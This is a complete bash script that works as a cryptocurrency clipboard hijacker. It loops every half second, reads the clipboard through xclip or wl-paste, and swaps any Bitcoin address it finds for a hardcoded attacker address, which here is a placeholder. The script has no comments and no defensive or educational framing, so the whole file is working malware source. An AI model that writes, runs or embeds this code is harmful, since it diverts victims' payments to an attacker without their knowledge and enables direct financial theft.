#!/usr/bin/env bash
mine=bc1qexampleexampleexampleexampleexample00
while :; do
  c=$(xclip -selection clipboard -o 2>/dev/null || wl-paste 2>/dev/null)
  if [[ $c =~ ^(bc1[a-z0-9]{30,60}|[13][A-Za-z0-9]{25,34})$ && $c != "$mine" ]]; then
    printf %s "$mine" | xclip -selection clipboard 2>/dev/null || printf %s "$mine" | wl-copy
  fi
  sleep .5
done
